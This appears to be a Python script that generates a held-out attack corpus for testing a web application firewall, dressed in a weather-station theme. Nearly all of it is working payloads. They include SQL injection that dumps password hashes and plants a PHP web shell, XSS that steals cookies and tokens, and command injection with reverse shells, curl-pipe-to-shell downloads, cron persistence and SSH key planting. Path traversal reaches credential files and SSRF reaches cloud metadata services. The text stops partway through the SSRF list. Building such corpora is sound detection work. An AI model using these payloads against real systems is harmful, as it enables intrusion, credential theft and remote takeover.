"""Held-out ATTACK corpus for the WAF evaluation: weather / meteorology theme.

Each value is a working payload for a vulnerable weather application that puts the
value where its class says: a station id or METAR remark concatenated into SQL, a GRIB
file name on a shell line, a radar-tile path opened from disk, a feed/webhook URL the
server fetches, a warning text rendered by a server-side template, a spotter comment
written into HTML without escaping, a station name written to a log line or a header,
an observer name placed in an LDAP filter, and so on.

Class names are "<context>-<technique>[+<encoding>]"; "plain-" classes are bare
payloads without domain wrapping. All literals were written by hand for this corpus
from an understanding of how each technique works; the template functions only
recombine small hand-written pools. Nothing comes from a public payload list.
Attacker infrastructure: attacker.example (and subdomains), 203.0.113.0/24,
198.51.100.0/24. Secrets/keys are fake placeholders.

Output: attacks.jsonl next to this file. Deterministic: fixed SEED, no set iteration,
byte-identical on every run and under any PYTHONHASHSEED.
"""

import json
import random
import sys
from pathlib import Path

SEED = 6202
PREFIX = "ha62"

# ---------------------------------------------------------------------------
# sqli -- station ids, METAR text, dates, sort keys... concatenated into SQL
# ---------------------------------------------------------------------------
SQLI = [
    ("station-id-union", "EGLL' UNION SELECT username, password_hash, NULL, NULL FROM users-- -"),
    ("station-id-tautology", "KJFK' OR '1'='1"),
    ("station-id-comment-truncate", "EGKK'#"),
    ("metar-insert-subselect", "METAR EGLL 121350Z 24012KT 9999 FEW030 18/09 Q1016', (SELECT password_hash FROM users WHERE role='admin' LIMIT 1))-- -"),
    ("metar-remark-concat-subselect", "METAR KSEA 122353Z 00000KT 10SM FEW060 19/10 A3011 RMK AO2 '||(SELECT group_concat(email||':'||api_key) FROM accounts)||'"),
    ("wmo-id-numeric-union", "03772 UNION ALL SELECT id, login, pass_hash, 4, 5 FROM observers"),
    ("wmo-id-boolean-blind", "03772 AND (SELECT SUBSTR(api_key,1,1) FROM observers WHERE id=1)='k'"),
    ("obs-date-time-blind-mysql", "2024-06-12' AND SLEEP(6) AND '1'='1"),
    ("obs-date-stacked-time-pg", "2024-06-12'; SELECT CASE WHEN current_setting('is_superuser')='on' THEN pg_sleep(6) ELSE pg_sleep(0) END-- "),
    ("station-id-time-mssql", "LFPG'; IF (SELECT COUNT(*) FROM sys.sql_logins WHERE name='sa')=1 WAITFOR DELAY '0:0:6'--"),
    ("station-name-error-extractvalue", "Heathrow' AND extractvalue(1, concat(0x7e, (SELECT user()), 0x7e))-- -"),
    ("station-name-error-updatexml", "Zugspitze' OR updatexml(NULL, concat(0x3a, (SELECT table_name FROM information_schema.tables WHERE table_schema=database() LIMIT 1)), NULL) OR '"),
    ("search-error-mssql-convert", "freezing rain' AND 1=CONVERT(int, (SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"),
    ("search-error-pg-cast", "drizzle' AND 1=CAST((SELECT string_agg(usename||':'||passwd, ',') FROM pg_shadow) AS int)--"),
    ("sort-param-case-blind", "obs_time, (CASE WHEN (SELECT substr(password,1,1) FROM users WHERE username='admin')='a' THEN temp_c ELSE station_id END)"),
    ("sort-param-stacked-drop", "temp_c DESC; DROP TABLE observations; --"),
    ("station-id-stacked-update", "EDDF'; UPDATE users SET role='admin' WHERE email='spotter42@wx-club.example'; --"),
    ("station-id-stacked-insert", "EHAM'; INSERT INTO api_keys(owner, key, scope) VALUES ('mallory', 'k-FAKE-0000', 'admin'); --"),
    ("station-id-mssql-xp-cmdshell", "LIRF'; EXEC sp_configure 'show advanced options', 1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE; EXEC xp_cmdshell 'whoami'; --"),
    ("station-id-mssql-oob-dirtree", "LOWW'; EXEC master..xp_dirtree '\\\\wx.attacker.example\\share'; --"),
    ("station-id-oracle-oob-http", "ESSA' || UTL_HTTP.REQUEST('http://attacker.example/o?u=' || (SELECT user FROM dual)) || '"),
    ("station-id-oracle-union", "ENGM' UNION SELECT owner, table_name, NULL FROM all_tables--"),
    ("station-id-sqlite-master", "YSSY' UNION SELECT name, sql, NULL FROM sqlite_master WHERE type='table'--"),
    ("station-id-into-outfile", "RJTT' UNION SELECT '<?php system($_GET[\"c\"]); ?>', NULL, NULL INTO OUTFILE '/var/www/html/wx_cache.php'-- -"),
    ("station-id-pg-copy-program", "VIDP'; COPY (SELECT 1) TO PROGRAM 'curl -s http://203.0.113.44/x.sh | sh'; --"),
    ("station-id-pg-read-file", "SBGR' UNION SELECT pg_read_file('/etc/passwd'), NULL, NULL--"),
    ("station-id-mysql-load-file", "CYYZ' UNION SELECT LOAD_FILE('/etc/passwd'), 2, 3-- -"),
    ("api-json-tautology", "{\"station\": \"EGLL' OR 1=1-- \", \"hours\": 24}"),
    ("bbox-lat-numeric-union", "49.8 AND 1=0 UNION SELECT login, pass_hash, 0, 0 FROM observers-- -"),
    ("elevation-filter-boolean-blind", "1000 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>77"),
    ("taf-text-stacked-delete", "TAF EDDF 121100Z 1212/1318 25010KT 9999 SCT040'); DELETE FROM taf_archive WHERE ('1'='1"),
    ("spotter-name-stacked-drop", "Jen O'Brien'); DROP TABLE spotter_reports; --"),
    ("obs-hour-having-error", "12' GROUP BY station_id HAVING 1=1--"),
    ("station-id-order-by-probe", "EGLL' ORDER BY 7-- -"),
    ("station-id-union-null-probe", "KORD' UNION SELECT NULL, NULL, NULL, NULL, NULL-- -"),
    ("station-id-union+versioned-comment", "EGPH'/*!50000UNION*//*!50000SELECT*/ user(), @@version, NULL-- -"),
    ("station-id-union+comment-space", "EGLL'/**/UNION/**/SELECT/**/login,pass_hash,NULL/**/FROM/**/observers--/**/-"),
    ("station-id-union+case-mix", "LEMD' uNiOn SeLeCt username, pAsSwOrD, NuLl FrOm users-- -"),
    ("station-id-union+urlenc", "EGLL%27%20UNION%20SELECT%20username%2Cpassword_hash%2CNULL%20FROM%20users--%20-"),
    ("station-id-tautology+double-urlenc", "KDEN%2527%2520OR%25201%253D1--%2520"),
    ("station-id-union+hex-literal", "EDDM' UNION SELECT api_key, NULL, NULL FROM users WHERE username=0x61646d696e-- -"),
    ("station-id-union+char-function", "LKPR' UNION SELECT password, NULL, NULL FROM users WHERE username=CHAR(97,100,109,105,110)-- -"),
    ("station-id-union+newline-space", "EPWA'\nUNION\nSELECT\nlogin,\npass_hash,\nNULL\nFROM\nobservers--"),
    ("station-id-backslash-escape-bypass", "EGLL\\' OR 1=1-- "),
    ("search-like-wildcard-union", "%' UNION SELECT email, phone, NULL FROM spotters WHERE '%'='"),
    ("station-list-in-breakout", "EGLL','EGKK') OR 1=1-- -"),
    ("observer-log-insert-multirow", "frost on grass', 1), ((SELECT api_key FROM users LIMIT 1), 1)-- -"),
    ("observer-profile-update-set", "Weather Watcher', role='admin"),
    ("station-id-time-blind-pg-from", "EGLL' AND 1=(SELECT 1 FROM pg_sleep(6))--"),
    ("station-id-heavy-query-sqlite", "YBBN' AND 1=LIKE('ABCDEFG', UPPER(HEX(RANDOMBLOB(300000000))))--"),
    ("station-id-oracle-error", "LSZH' AND 1=CTXSYS.DRITHSX.SN(1, (SELECT user FROM dual))--"),
    ("station-id-oracle-time", "LSGG' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a', 6)--"),
    ("metar-remark-boolean", "METAR LFPG 120830Z 04005KT CAVOK 21/09 Q1021' AND (SELECT COUNT(*) FROM users)>0 AND 'x'='x"),
    ("synop-text-stacked-delete", "AAXX 12061 03772 41/// 82410 10083'; DELETE FROM synop_raw; --"),
    ("radar-site-union-columns", "KTLX' UNION SELECT table_name, column_name, NULL FROM information_schema.columns-- -"),
    ("climate-year-numeric-union", "2023 UNION SELECT NULL, concat(login, 0x3a, pass_hash), NULL FROM observers"),
    ("station-id-exists-blind", "EGLL' AND EXISTS(SELECT 1 FROM users WHERE username='admin' AND password LIKE 'a%')-- -"),
    ("station-id-hash-comment", "KBOS' OR 1=1#"),
    ("station-id-error-gtid", "KMIA' AND GTID_SUBSET(CONCAT(0x7e, (SELECT @@hostname)), 1)-- -"),
    ("station-id-error-pg-numeric", "KIAH' AND 1=(SELECT CAST(version() AS numeric))--"),
    ("api-json-tautology+unicode-escape", "{\"icao\": \"EGLL\\u0027 OR \\u00271\\u0027=\\u00271\"}"),
    ("forecast-author-login-bypass", "duty_forecaster'-- "),
    ("station-id-mssql-openrowset-oob", "LFMN'; SELECT * FROM OPENROWSET('SQLOLEDB', 'server=203.0.113.21;uid=sa;pwd=x', 'SELECT 1')--"),
    ("plain-tautology", "' OR 1=1-- -"),
    ("plain-union-version", "1' UNION SELECT NULL, version(), NULL-- -"),
    ("plain-stacked-drop", "'; DROP TABLE users; --"),
    ("plain-comment-login", "admin'--"),
    ("plain-numeric-sleep", "1 AND SLEEP(5)"),
    ("plain-error-convert", "' AND 1=CONVERT(int, @@version)--"),
    ("plain-waitfor", "1; WAITFOR DELAY '0:0:5'--"),
    ("plain-paren-tautology", "') OR ('x'='x"),
]

_SQ_ICAO = ["EGLL", "EDDF", "LFPG", "KJFK", "KDEN", "LSZH", "RJTT", "YSSY", "CYYZ", "EHAM", "LOWW", "EKCH"]
_SQ_COND = [
    "SUBSTRING((SELECT password_hash FROM users WHERE username='admin'),{i},1)='{c}'",
    "ASCII(SUBSTR((SELECT api_key FROM observers LIMIT 1),{i},1))>{n}",
    "(SELECT LENGTH(password) FROM users WHERE id=1)={i}",
    "MID((SELECT token FROM sessions ORDER BY id DESC LIMIT 1),{i},1)='{c}'",
]
_SQ_DELAY = ["' AND SLEEP({s})-- -", "' AND (SELECT {s} FROM (SELECT SLEEP({s}))x)-- -",
             "'; WAITFOR DELAY '0:0:{s}'--", "' AND 1=(SELECT 1 FROM pg_sleep({s}))--",
             "' OR IF(1=1, SLEEP({s}), 0)-- -"]


def t_sqli(rng):
    if rng.random() < 0.55:
        cond = rng.choice(_SQ_COND).format(i=rng.randint(1, 32), c=rng.choice("abcdef0123456789"),
                                           n=rng.randint(48, 122))
        return ("station-id-boolean-blind", "%s' AND %s-- -" % (rng.choice(_SQ_ICAO), cond))
    date = "2024-%02d-%02d" % (rng.randint(1, 12), rng.randint(1, 28))
    return ("obs-date-time-blind", date + rng.choice(_SQ_DELAY).format(s=rng.randint(4, 15)))


# ---------------------------------------------------------------------------
# xss -- station names, spotter comments, remarks, labels rendered into HTML/JS
# ---------------------------------------------------------------------------
XSS = [
    ("station-name-img-onerror", "Heathrow <img src=x onerror=alert(document.domain)>"),
    ("spotter-comment-svg-onload", "Hail 1.75\" at Norman <svg onload=fetch('//attacker.example/c?'+document.cookie)>"),
    ("metar-remark-script-exfil", "METAR EGLL 121350Z 24012KT 9999 -RA BKN014 14/11 Q1008 RMK <script>new Image().src='https://attacker.example/k?'+encodeURIComponent(localStorage.token)</script>"),
    ("radar-label-attr-breakout", "Composite reflectivity\" onmouseover=\"alert(1)\" x=\""),
    ("chart-title-attr-autofocus", "Tmax 2024' autofocus onfocus='alert(document.cookie)"),
    ("forecast-md-javascript-link", "See the [radar loop](javascript:alert(document.domain)) for the squall line"),
    ("station-id-inline-js-string", "EGLL';fetch('https://attacker.example/x',{method:'POST',body:document.cookie});//"),
    ("station-id-script-block-break", "EGLL</script><script>alert(origin)</script>"),
    ("warning-text-details-ontoggle", "Gale warning <details open ontoggle=alert(1)><summary>more</summary></details>"),
    ("spotter-comment-iframe-srcdoc", "Photo: <iframe srcdoc=\"<script>parent.alert(document.domain)</script>\"></iframe>"),
    ("station-url-javascript-scheme", "javascript:alert(document.cookie)//https://wx-club.example/station/03772"),
    ("warning-text-object-data-uri+base64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+\"></object>"),
    ("warning-text-meta-refresh", "Flood watch update <meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("spotter-comment-html-form-phish", "<form action=\"https://attacker.example/collect\" method=post><p>Session expired, sign in to see radar</p><input name=user><input type=password name=pass><button>Sign in</button></form>"),
    ("warning-text-base-href", "Updated text <base href=\"https://attacker.example/\">"),
    ("station-notes-style-import", "Screen repainted <style>@import 'https://attacker.example/wx.css';</style>"),
    ("chart-svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("spotter-video-source-onerror", "Tornado video <video><source onerror=\"alert(1)\"></video>"),
    ("forecast-md-input-autofocus", "Confidence: <input autofocus onfocus=alert(document.domain)>"),
    ("warning-text-marquee-onstart", "<marquee onstart=alert(1)>TORNADO WARNING</marquee>"),
    ("forecast-text-angular-template", "Highs {{constructor.constructor('alert(document.domain)')()}} °C"),
    ("station-name-vue-template", "De Bilt {{_c.constructor('alert(1)')()}}"),
    ("radar-legend-svg-xlink", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>Radar legend</text></a></svg>"),
    ("spotter-audio-onerror", "Thunder recording <audio src=x onerror=alert(document.cookie)>"),
    ("spotter-comment-textarea-break", "</textarea><img src=x onerror=alert(1)>"),
    ("page-title-break", "EGLL METAR</title><script>alert(1)</script>"),
    ("radar-product-unquoted-attr", "N0Q onmouseover=alert(document.cookie)"),
    ("api-json-remark-img+unicode-escape", "{\"remark\": \"\\u003cimg src=x onerror=alert(1)\\u003e\"}"),
    ("station-link-javascript+html-entities", "<a href=\"jav&#x61;script&#x3a;alert(1)\">METAR decoder</a>"),
    ("spotter-img-onerror+html-entities", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">"),
    ("search-reflect-script+urlenc", "%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E"),
    ("search-reflect-svg+double-urlenc", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("taf-text-script+case-mix", "TAF EDDF 121100Z 1212/1318 25010KT 9999 <ScRiPt>alert(1)</sCrIpT>"),
    ("station-url-javascript+tab-split", "java\tscript:alert(document.domain)"),
    ("station-name-svg-slash", "Säntis<svg/onload=alert(1)>"),
    ("spotter-img-template-literal", "Hail <img src=x onerror=alert`1`>"),
    ("spotter-img-onerror-throw", "<img src=x onerror=\"window.onerror=alert;throw 1\">"),
    ("warning-text-eval-atob+base64", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ=='))>"),
    ("chart-title-fromcharcode", "<svg onload=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>"),
    ("spotter-img-dynamic-import", "<img src=x onerror=import('//attacker.example/m.js')>"),
    ("forecast-md-image-attr-break", "![radar](x\" onerror=\"alert(1))"),
    ("forecast-md-raw-html", "Storms likely this evening.\n\n<img src=x onerror=alert(1)>\n\n$$"),
    ("cap-description-cdata-script", "<![CDATA[<script>alert(1)</script>]]>"),
    ("radar-legend-svg-script", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script><rect width=\"100\" height=\"20\" fill=\"#00ff00\"/></svg>"),
    ("spotter-comment-noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("station-website-iframe-js", "<iframe src=\"javascript:alert(parent.document.cookie)\">"),
    ("warning-text-onanimationstart", "<style>@keyframes x{}</style><p style=\"animation-name:x\" onanimationstart=\"alert(1)\">GALE WARNING</p>"),
    ("spotter-iframe-srcdoc+html-entities", "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\">"),
    ("spotter-mention-attr-break", "@stormchaser_jen\"><img src=x onerror=alert(1)>"),
    ("station-id-js-template-literal", "${alert(document.domain)}"),
    ("station-name-script-break-svg", "Lyon-Bron</script><svg onload=alert(1)>"),
    ("spotter-comment-script+fullwidth", "＜script＞alert(1)＜/script＞"),
    ("warning-text-popover-beforetoggle", "<button popovertarget=x>Details</button><div popover id=x onbeforetoggle=alert(1)>Warning</div>"),
    ("observer-note-tabindex-onfocus", "Screen door <div tabindex=1 autofocus onfocus=alert(1)>fixed</div>"),
    ("chart-svg-text-break", "Tmean</text><script>alert(1)</script><text>"),
    ("radar-label-onpointerenter", "<span onpointerenter=alert(1)>N0Q 0.5°</span>"),
    ("station-photo-caption-svg-foreignobject", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>"),
    ("forecast-md-data-uri-link", "[loop](data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+)"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-attr-break-svg", "\"><svg onload=alert(1)>"),
    ("plain-javascript-uri", "javascript:alert(1)"),
    ("plain-js-string-break", "'-alert(1)-'"),
    ("plain-body-onload", "<body onload=alert(1)>"),
    ("plain-iframe-js", "<iframe src=javascript:alert(1)>"),
]

_XS_PREFIX = ["Hail 1\" at Norman", "Funnel 3 N Ames", "Wall cloud W of Hays", "Gust 62 mph Ridgefield",
              "Flooding Oak St bridge", "Snow 8\" Boulder", "Grêle 3 cm Lyon", "Hagel 4 cm Rosenheim"]
_XS_VEC = ["<img src=x onerror={js}>", "<svg onload={js}>", "<video src=x onerror={js}>",
           "<input autofocus onfocus={js}>", "<details open ontoggle={js}>", "<body onpageshow={js}>"]
_XS_JS = ["alert(document.domain)", "fetch('//attacker.example/'+document.cookie)",
          "location='//attacker.example/?c='+document.cookie",
          "new Image().src='//198.51.100.23/?'+localStorage.getItem('jwt')",
          "navigator.sendBeacon('//attacker.example/b',document.cookie)"]


def t_xss(rng):
    vec = rng.choice(_XS_VEC).format(js=rng.choice(_XS_JS))
    return ("spotter-comment-event-handler", "%s %s" % (rng.choice(_XS_PREFIX), vec))


# ---------------------------------------------------------------------------
# cmdi -- station ids, GRIB names, logger hosts... placed on a shell line
# ---------------------------------------------------------------------------
CMDI = [
    ("station-id-semicolon", "EGLL; cat /etc/passwd"),
    ("station-id-and-chain", "KJFK && id"),
    ("station-id-pipe-revshell", "KORD | nc 203.0.113.7 4444 -e /bin/sh"),
    ("station-id-subshell-download", "$(curl -s http://attacker.example/s.sh | sh)"),
    ("station-id-backtick", "LFPG`id`"),
    ("logger-ip-diag-revshell", "10.20.0.15; bash -i >& /dev/tcp/198.51.100.7/443 0>&1"),
    ("logger-ip-diag-newline", "10.20.0.15\nwget -qO- http://attacker.example/a | sh"),
    ("grib-file-semicolon-rm", "gfs.t12z.pgrb2.0p25.f048; rm -rf /var/lib/wx/cache"),
    ("grib-file-or-exfil", "gfs.t12z.pgrb2.0p25.f999 || curl -d @/etc/passwd http://attacker.example/up"),
    ("cdo-date-subshell-sleep", "2024-06-01,2024-06-30 $(sleep 10)"),
    ("station-id-ifs", "EGLL;cat${IFS}/etc/passwd"),
    ("station-id-brace-expansion", "EGLL;{cat,/etc/shadow}"),
    ("station-id-glob-obfuscation", "EGLL;/???/c?t /???/p?ss??"),
    ("station-id-cat+quote-splice", "EGLL;c''at /e\"\"tc/pa''sswd"),
    ("station-id-whoami+backslash-splice", "EGLL;w\\ho\\am\\i"),
    ("station-id-printf+octal", "EGLL;$(printf '\\151\\144')"),
    ("station-id-pipe-sh+base64", "EGLL; echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh"),
    ("station-id-xxd+hex", "EGLL; echo 6964 | xxd -r -p | sh"),
    ("station-id-time-sleep", "EGKK; sleep 12 #"),
    ("station-id-time-ping", "EGKK | ping -c 12 127.0.0.1"),
    ("station-id-dns-exfil", "EGPH; nslookup $(whoami).dns.attacker.example"),
    ("station-id-http-exfil", "EGPH; curl \"http://attacker.example/?h=$(hostname)&u=$(id -u)\""),
    ("station-id-windows-amp", "LEMD & whoami"),
    ("station-id-windows-type", "LEMD | type C:\\Windows\\win.ini"),
    ("station-id-powershell-iex", "LIRF; powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')\""),
    ("station-id-windows-certutil", "LOWW & certutil -urlcache -split -f http://203.0.113.9/x.exe %TEMP%\\x.exe & %TEMP%\\x.exe"),
    ("archive-name-tar-arg-injection", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/upload/radar.sh"),
    ("feed-url-curl-arg-injection", "-o /var/www/html/s.php http://attacker.example/s.txt"),
    ("grib-glob-find-exec", "*.nc -exec curl -s http://attacker.example/f -o /tmp/f ;"),
    ("chart-title-gnuplot-system", "Tmax 2024\"\nsystem \"id > /tmp/gp\"\nset title \"x"),
    ("logger-host-ssh-proxycommand", "-oProxyCommand=sh -c 'id>/tmp/pc' logger01"),
    ("alert-email-sendmail-args", "spotter@example.org -X/var/www/html/log.php -OQueueDirectory=/tmp"),
    ("grib-path-perl-open-pipe", "curl -s http://attacker.example/p | sh |"),
    ("station-id-newline+urlenc", "EGLL%0Aid"),
    ("station-id-semicolon+urlenc", "EGLL%3B%20cat%20%2Fetc%2Fpasswd"),
    ("station-id-semicolon+double-urlenc", "EGLL%253Bid"),
    ("station-id-process-substitution", "EGLL;cat <(id)"),
    ("station-id-env-exfil", "EGLL; env | curl -X POST --data-binary @- http://attacker.example/e"),
    ("station-id-cron-persistence", "EGLL; (crontab -l; echo '*/5 * * * * curl -s http://attacker.example/b|sh') | crontab -"),
    ("station-id-ssh-key-plant", "EGLL; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKE attacker' >> ~/.ssh/authorized_keys"),
    ("station-id-python-revshell", "EGLL; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.7\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("station-id-perl-system", "EGLL | perl -e 'system(\"id\")'"),
    ("station-id-busybox-nc", "EGLL; busybox nc 203.0.113.7 4444 -e sh"),
    ("station-id-mkfifo-revshell", "EGLL; rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f"),
    ("station-id-awk-system", "EGLL; awk 'BEGIN{system(\"id\")}'"),
    ("station-id-cat+var-slicing", "EGLL;cat ${HOME:0:1}etc${HOME:0:1}passwd"),
    ("station-id-cat+ansi-c-hex", "EGLL;$'\\x63\\x61\\x74' /etc/passwd"),
    ("station-id-rev-herestring", "EGLL; $(rev<<<'di')"),
    ("metar-remark-subshell", "METAR EGLL 121350Z 24012KT 9999 FEW030 18/09 Q1016 RMK $(id)"),
    ("synop-text-backtick", "AAXX 12061 03772 41/// `uname -a`"),
    ("radar-title-double-quote-break", "KTLX 0.5° reflectivity\"; curl http://attacker.example/x|sh; echo \""),
    ("spotter-location-single-quote-break", "Norman OK'; id; echo '"),
    ("station-id-whoami+caret", "LFPG & w^h^o^a^m^i"),
    ("station-id-comspec", "LFPG | %COMSPEC% /c dir C:\\"),
    ("netcdf-file-dropper", "wrfout_d02.nc > /dev/null; wget http://203.0.113.9/m -O /tmp/m; chmod +x /tmp/m; /tmp/m"),
    ("grib-file-newline-chain", "icon-d2_2024061206_002.grib2\ncurl -s http://attacker.example/i | bash"),
    ("station-id-semicolon+tab-space", "EGLL;\tcat\t/etc/passwd"),
    ("taf-text-and-chain", "TAF EDDF 121100Z 1212/1318 25010KT 9999 SCT040 && cat /etc/shadow"),
    ("model-name-pipe-mail", "gfs | mail -s keys attacker@attacker.example < /etc/wx/api_keys.yaml"),
    ("station-id-powershell-encoded+base64", "LFPO & powershell -enc dwBoAG8AYQBtAGkA"),
    ("station-id-ld-preload", "EGLL; LD_PRELOAD=/tmp/upload/legend.so ls"),
    ("plain-semicolon-id", "; id"),
    ("plain-pipe-passwd", "| cat /etc/passwd"),
    ("plain-backtick", "`whoami`"),
    ("plain-subshell", "$(id)"),
    ("plain-and-uname", "&& uname -a"),
    ("plain-sleep", "; sleep 10"),
    ("plain-or-ping", "|| ping -c 10 127.0.0.1"),
]

_CM_STN = ["EGLL", "EDDF", "KJFK", "LFPG", "RJTT", "KDEN", "LSZH", "EHAM", "LEMD", "EKCH"]
_CM_SEP = ["; {c}", " && {c}", " || {c}", " | {c}", "\n{c}", "`{c}`", "$({c})", " & {c}"]
_CM_CMD = ["id", "uname -a", "cat /etc/hostname", "ls -la /var/lib/wx",
           "curl -s http://attacker.example/r | sh", "wget -q -O- http://203.0.113.50/i | sh",
           "nc -e /bin/sh 198.51.100.14 4444", "sleep 9", "cat /proc/self/environ"]


def t_cmdi(rng):
    return ("station-id-chain", rng.choice(_CM_STN) + rng.choice(_CM_SEP).format(c=rng.choice(_CM_CMD)))


# ---------------------------------------------------------------------------
# traversal -- GRIB/NetCDF/radar-tile/photo paths opened from disk
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("grib-path-dotdot", "gfs/2024061212/../../../../../etc/shadow"),
    ("radar-tile-dotdot-proc", "radar/KTLX/../../../../../../proc/self/environ"),
    ("netcdf-name-dotdot", "../../../../../root/.bash_history"),
    ("grib-path-dotdot+urlenc", "..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    ("grib-path-dotdot+double-urlenc", "..%252F..%252F..%252F..%252Fetc%252Fpasswd"),
    ("radar-tile-dotdot+overlong-utf8", "..%c0%af..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("netcdf-name-dotdot+encoded-dots", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/hosts"),
    ("grib-path-nested-strip", "....//....//....//....//etc/passwd"),
    ("grib-path-nested-strip-dotslash", "..././..././..././..././etc/passwd"),
    ("station-photo-windows-backslash", "..\\..\\..\\..\\windows\\win.ini"),
    ("station-photo-windows-mixed", "..\\../..\\../inetpub/wwwroot/web.config"),
    ("grib-path-null-byte", "../../../../etc/passwd%00.grib2"),
    ("grib-path-absolute", "/etc/passwd"),
    ("log-viewer-absolute-proc", "/proc/self/cmdline"),
    ("log-viewer-absolute-nginx", "/var/log/nginx/access.log"),
    ("config-name-dotenv", "../../../app/.env"),
    ("radar-tile-semicolon-path", "..;/..;/WEB-INF/web.xml"),
    ("static-radar-web-inf", "/static/radar/../../WEB-INF/classes/application.properties"),
    ("archive-member-zip-slip", "radar_loop/../../../../../var/www/html/legend.php"),
    ("station-photo-dotdot+fullwidth-slash", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fwindows%ef%bc%8fwin.ini"),
    ("station-photo-dotdot+percent-u", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("station-photo-dotdot+urlenc-backslash", "..%5c..%5c..%5c..%5cboot.ini"),
    ("template-name-php-filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("log-viewer-proc-cwd", "/proc/self/cwd/config.yaml"),
    ("grib-path-k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("grib-path-aws-credentials", "../../../../home/wx/.aws/credentials"),
    ("log-viewer-proc-environ-pid1", "/proc/1/environ"),
    ("station-photo-windows-absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("station-photo-dotdot-after-name", "EGLL.png/../../../../etc/passwd"),
    ("archive-date-path-dotdot", "2024/06/12/../../../../../../etc/group"),
    ("warning-template-name-dotdot", "warning_templates/../../../../etc/passwd"),
    ("netcdf-name-mixed-dot-encoding", ".%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("netcdf-name-dots+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("api-query-file-param", "product=N0Q&site=KTLX&file=../../../../etc/passwd"),
    ("api-json-path", "{\"path\": \"../../../../etc/shadow\", \"format\": \"grib2\"}"),
    ("grib-path-ssh-authorized-keys", "../../../../home/ubuntu/.ssh/authorized_keys"),
    ("grib-path-git-config", "../../.git/config"),
    ("config-name-settings", "../app/settings/production.py"),
    ("station-photo-htpasswd", "../../.htpasswd"),
    ("station-photo-windows-sam", "..\\..\\..\\..\\Windows\\repair\\sam"),
    ("station-photo-windows-nested-strip", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("station-photo-windows+urlenc", "%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini"),
    ("radar-tile-zxy-dotdot", "tiles/radar/7/64/../../../../../../../etc/passwd"),
    ("grib-path-absolute-dotdot", "/data/nwp/gfs/2024061212/../../../../../../var/lib/postgresql/.pgpass"),
    ("plain-dotdot-passwd", "../../../../etc/passwd"),
    ("plain-dotdot-win-ini", "..\\..\\..\\windows\\win.ini"),
    ("plain-absolute-shadow", "/etc/shadow"),
    ("plain-nested-strip", "....//....//etc/passwd"),
    ("plain-dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
]

_TR_PREFIX = ["gfs/2024061212/", "radar/KTLX/2024/06/12/", "/data/nwp/icon-eu/", "era5/2023/",
              "stations/03772/photos/", "exports/climate/", "tiles/7/64/"]
_TR_TARGET = ["etc/passwd", "etc/shadow", "proc/self/environ", "root/.ssh/id_rsa",
              "etc/wx/api_keys.yaml", "var/www/html/.env", "home/wx/.bash_history"]


def t_traversal(rng):
    depth = rng.randint(4, 9)
    return ("grib-path-dotdot", rng.choice(_TR_PREFIX) + "../" * depth + rng.choice(_TR_TARGET))


# ---------------------------------------------------------------------------
# ssrf -- radar image URLs, feed/webhook URLs, WMS sources fetched by the server
# ---------------------------------------------------------------------------
SSRF = [
    ("radar-image-url-aws-imds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("webhook-url-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("webhook-url-azure-imds", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("feed-url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("feed-url-oracle-imds", "http://169.254.169.254/opc/v2/instance/"),
    ("feed-url-digitalocean-metadata", "http://169.254.169.254/metadata/v1.json"),
    ("radar-image-url-aws-imds-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
